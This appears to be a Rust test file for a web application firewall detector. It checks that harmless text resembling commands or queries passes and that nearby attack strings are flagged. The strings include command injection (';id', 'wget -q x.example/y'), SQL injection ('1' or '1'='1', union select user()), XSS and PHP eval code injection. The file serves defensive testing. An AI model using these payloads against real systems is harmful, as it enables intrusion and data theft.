//! Honest traffic that rules mistake for commands and statements passes with both rule sets, and its dishonest neighbour does
//! not.

mod common;

use common::{Sample, crs_directory};
use proofhouse_waas::{Attack, Detector};
use std::path::PathBuf;

fn rule_sets() -> Vec<Detector> {
    let other = std::env::var_os("PROOFHOUSE_CRS4").map(PathBuf::from);
    if other.is_none() {
        println!("with rule set 4 it did not run: PROOFHOUSE_CRS4 names no directory of it");
    }
    let load = |directory: PathBuf| Detector::load(&directory).expect("the rule set loads");
    std::iter::once(crs_directory()).chain(other).map(load).collect()
}

fn json(value: &str) -> Sample {
    Sample::post("/a", "application/json", serde_json::json!({"text": value}).to_string())
}

#[test]
fn honest_words_pass() {
    for detector in rule_sets() {
        for text in [
            "Sand the board.\nMeasure it twice.",
            "Plan of the day:\r\nSort the mail\r\nFind a chair",
            "List files with `ls -la`, or `id`, and then | go | on |",
            "built-in-theme",
            "builtin-light-template",
            "Bracket 30x30, 4 slots | SELF TAPPING SCREW pack",
            "{\"wide\":{\"x\":4,\"row\":1}}",
            "text/html,application/xml;q=0.9,image/webp,*/*;q=0.8",
            "\"select specialty clinic\"",
            "a union of the select few",
            "JavaScript: notes for a first course",
            "zsh is what we teach here",
            "Perl module for reading lists of ships",
            "It rains; sort should wait, then",
            "Read it on the command line with care; time is short",
            "query Q($k: ID!) { user(id: $k) { name } }",
            "Read [our notes](https://notes.example/a#b), or [CHANGES.md](CHANGES.md)",
            "It calls `ship-tool update --all-ports x`, and its `Hull::new(4)` type. Sort it",
            "Мир и покой, и море, но не война",
            "B. Smith <bs@post.example.com> (https://smith.example/)",
            "60% wool and 40% silk",
            "Put it on the file (with or without a lid), and on the small red command line of it",
        ] {
            assert_eq!(json(text).inspect_by(&detector), [], "{text}");
        }
        assert_eq!(Sample::get("/?q=%22select%20two%20colours%22").inspect_by(&detector), []);
        assert_eq!(Sample::get("/?q=jane+and@post.example.com").inspect_by(&detector), []);
    }
}

#[test]
fn their_neighbours_do_not() {
    for detector in rule_sets() {
        for (text, attack) in [
            ("List files with `ls -la; id`", Attack::Cmdi),
            ("x`ls -la`", Attack::Cmdi),
            ("Sand the board.\nIt is; ls -la /tmp", Attack::Cmdi),
            ("Use `id` here; ls -la", Attack::Cmdi),
            ("\" union select a, b from c --", Attack::Sqli),
            ("1' or '1'='1", Attack::Sqli),
            ("1 union all select user()", Attack::Sqli),
            ("x' or user() like 'a%", Attack::Sqli),
            ("javascript:alert(document.domain)", Attack::Xss),
            ("zsh is -c id", Attack::Cmdi),
            ("perl -e 'print 1'", Attack::Cmdi),
            ("It rains; wget -q x.example/y", Attack::Cmdi),
            ("$x[0](system)", Attack::CodeInjection),
            ("ļscript >ļ/script >ľ", Attack::Xss),
            ("file (with or without a lid); eval($_GET[1])", Attack::CodeInjection),
            ("the time is up; wget -q x.example/y", Attack::Cmdi),
        ] {
            let found: Vec<_> = json(text).inspect_by(&detector).iter().map(|found| found.attack).collect();
            assert!(found.contains(&attack), "{text}: {found:?}");
        }
    }
}
